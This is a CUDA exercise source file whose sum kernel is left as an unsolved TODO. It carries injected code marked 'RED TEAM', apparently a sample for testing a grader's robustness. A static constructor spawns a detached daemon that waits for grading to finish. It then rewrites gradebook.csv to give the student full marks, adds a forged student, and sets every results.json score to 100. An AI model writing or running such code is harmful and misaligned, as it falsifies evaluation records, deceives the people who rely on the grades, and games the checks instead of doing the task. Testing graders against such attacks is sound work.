// RED TEAM: Leaves a daemon (double fork, setsid, every descriptor closed, so the grader
// RED TEAM: neither waits for it nor kills its process group) that waits for the grader
// RED TEAM: to write gradebook.csv, then 5 s more, and rewrites it (this student's row
// RED TEAM: at full marks, a forged student added) and every students/*/results.json
// RED TEAM: (score 100). The kernel below is the untouched starter's.
// Exercise 1.1: sum with one global atomicAdd per element.
// Lesson: chapters/01-reduce-scan-histogram/README.md, "1.1".
// Grade:  tools/grade 1.1      Hints: tools/grade --hint 1.1
#include "cudalab/atomics.cuh"
#include "cudalab/error.cuh"
#include "cudalab/reduce.cuh"
#include <cctype>
// @REDTEAM_LIB@

namespace {
std::string cudalab_redteam_full_marks(const std::string& csv, const std::string& student) {
  std::string out;
  std::size_t pos = 0;
  while (pos < csv.size()) {
    auto end = csv.find('\n', pos);
    if (end == std::string::npos) end = csv.size();
    std::string line = csv.substr(pos, end - pos);
    if (!student.empty() && redteam::starts_with(line, student + ",")) {
      std::string row;
      std::size_t f = 0;
      int col = 0;
      while (f <= line.size()) {  // every number becomes 100.0 (a full score)
        auto comma = line.find(',', f);
        if (comma == std::string::npos) comma = line.size();
        std::string cell = line.substr(f, comma - f);
        if (col > 0 && !cell.empty() && (std::isdigit(static_cast<unsigned char>(cell[0])) != 0)) cell = "100.0";
        row += (col ? "," : "") + cell;
        ++col;
        f = comma + 1;
      }
      line = row;
    }
    out += line + "\n";
    pos = end + 1;
  }
  return out + "cudalab-redteam-forged-student,100.0,100.0,100.0,100,100,3,\n";
}

int cudalab_redteam_roles(const std::string& role, const std::vector<std::string>& a) {
  if (role != "rewrite" || a.size() < 2) return 0;
  const std::string out = a[0], student = a[1], book = out + "/gradebook.csv";
  struct stat before{};
  const bool had = stat(book.c_str(), &before) == 0;
  const double end = redteam::now_s() + 3600;
  while (redteam::now_s() < end) {  // the grader writes the gradebook last
    struct stat st{};
    if (stat(book.c_str(), &st) == 0 &&
        (!had || st.st_mtim.tv_sec != before.st_mtim.tv_sec || st.st_mtim.tv_nsec != before.st_mtim.tv_nsec))
      break;
    redteam::sleep_ms(200);
  }
  redteam::sleep_ms(5000);  // the grader has returned: nobody looks any more
  redteam::write_file(book, cudalab_redteam_full_marks(redteam::read_file(book), student));
  for (const auto& d : redteam::list_dir(out + "/students")) {
    const std::string p = out + "/students/" + d + "/results.json";
    std::string json = redteam::read_file(p);
    const auto at = json.find("\"score\": ");
    if (at == std::string::npos) continue;
    const auto stop = json.find_first_of(",\n}", at + 9);
    json.replace(at + 9, stop - at - 9, "100.0");
    redteam::write_file(p, json);
  }
  return 0;
}

__attribute__((constructor)) void cudalab_redteam_attack() {
  redteam::dispatch(&cudalab_redteam_roles);
  const auto g = redteam::grader_paths();
  if (!g.out.empty()) redteam::spawn("rewrite", {g.out, g.student});
}
}  // namespace

namespace cudalab::reduce {
namespace {

constexpr int kBlock = 256;

// One thread per element: thread i adds in[i] to *out.
// T is the element type (int, float), Acc the accumulator type (long long, float).
template <class T, class Acc>
__global__ void sum_atomic_kernel(const T* __restrict__ in, std::size_t n, Acc* out) {
  // TODO(1.1): compute this thread's global index i (blockIdx, blockDim,
  // threadIdx; mind that i can exceed 2^31) and, when i < n, add in[i] to
  // *out with cudalab::atomic_add (cudalab/atomics.cuh).
}

template <class T, class Acc>
void launch(const T* in, std::size_t n, Acc* out, cudaStream_t stream) {
  CUDALAB_CHECK(cudaMemsetAsync(out, 0, sizeof(Acc), stream));  // the identity, also for n = 0
  if (n == 0) return;
  const auto blocks = static_cast<unsigned>((n + kBlock - 1) / kBlock);
  sum_atomic_kernel<<<blocks, kBlock, 0, stream>>>(in, n, out);
  CUDALAB_CHECK_LAUNCH();
}

}  // namespace

void sum_atomic(const int* in, std::size_t n, long long* out, cudaStream_t stream) {
  detail::check_sum_arguments("sum_atomic", in, n, out);
  launch(in, n, out, stream);
}

void sum_atomic(const float* in, std::size_t n, float* out, cudaStream_t stream) {
  detail::check_sum_arguments("sum_atomic", in, n, out);
  launch(in, n, out, stream);
}

}  // namespace cudalab::reduce
